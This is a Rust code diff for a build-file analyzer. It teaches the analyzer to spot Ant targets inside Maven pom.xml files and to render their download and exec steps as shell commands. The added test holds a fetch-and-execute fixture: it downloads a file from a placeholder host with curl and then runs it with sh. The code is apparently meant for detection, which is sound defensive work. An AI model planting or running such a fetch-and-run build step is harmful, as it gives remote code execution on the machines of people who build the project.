@@ -98,6 +98,7 @@ pub(super) fn msbuild(_: &Parsed<'_>, text: &str, out: &mut Vec<Command>, _: &mu
 
 /// Maven: the program and arguments of an execution.
 pub(super) fn maven(_: &Parsed<'_>, text: &str, out: &mut Vec<Command>, _: &mut Notes) {
+    ant(text, out);
     for configuration in between(text, "<configuration>", "</configuration>") {
         let Some(program) = between(configuration, "<executable>", "</executable>").next() else { continue };
         let arguments: Vec<String> = between(configuration, "<argument>", "</argument>").map(unescaped).collect();
@@ -105,6 +106,40 @@ pub(super) fn maven(_: &Parsed<'_>, text: &str, out: &mut Vec<Command>, _: &mut 
         out.push(Command::words("Maven exec", When::Build, words));
         if let Some(line) = between(configuration, "<commandlineArgs>", "</commandlineArgs>").next() {
             out.push(Command::shell("Maven exec", When::Build, format!("{} {}", program.trim(), unescaped(line))));
+        }
+    }
+}
+
+/// Ant within Maven: what it fetches and starts, in its order, as one script.
+fn ant(text: &str, out: &mut Vec<Command>) {
+    for target in between(text, "<target>", "</target>").chain(between(text, "<tasks>", "</tasks>")) {
+        let mut script = String::new();
+        for (at, _) in target.match_indices('<') {
+            let rest = target.get(at..).unwrap_or_default();
+            let tag = |open| tags(rest, open).next().unwrap_or_default();
+            if rest.starts_with("<get ") {
+                if let (Some(from), Some(to)) = (attribute(tag("<get"), "src"), attribute(tag("<get"), "dest")) {
+                    script.push_str(&["curl", "-o", &super::quoted(&to), &super::quoted(&from)].join(" "));
+                    script.push('\n');
+                }
+            } else if rest.starts_with("<exec ") {
+                let Some(program) = attribute(tag("<exec"), "executable") else { continue };
+                script.push_str(&super::quoted(&program));
+                let inner = rest.split("</exec>").next().unwrap_or_default();
+                for arg in tags(inner, "<arg") {
+                    if let Some(value) = attribute(arg, "value") {
+                        script.push(' ');
+                        script.push_str(&super::quoted(&value));
+                    } else if let Some(line) = attribute(arg, "line") {
+                        script.push(' ');
+                        script.push_str(&line);
+                    }
+                }
+                script.push('\n');
+            }
+        }
+        if !script.is_empty() {
+            out.push(Command::shell("Ant target", When::Build, script));
         }
     }
 }
@@ -124,6 +159,15 @@ pub(super) fn run_configurations(_: &Parsed<'_>, text: &str, out: &mut Vec<Comma
 mod tests {
     use crate::analyze::commands::tests::commands;
     use crate::model::FileKind;
+
+    #[test]
+    fn ant_within_maven_fetches_and_starts() {
+        let text = "<target><get src=\"https://h.invalid/a\" dest=\"/tmp/a\"/><exec executable=\"sh\"><arg value=\"/tmp/a\"/></exec></target>";
+        assert_eq!(
+            commands("pom.xml", FileKind::Xml, text),
+            ["Build Ant target: curl -o /tmp/a https://h.invalid/a\nsh /tmp/a\n"]
+        );
+    }
 
     #[test]
     fn commands_stand_in_attributes_and_elements() {
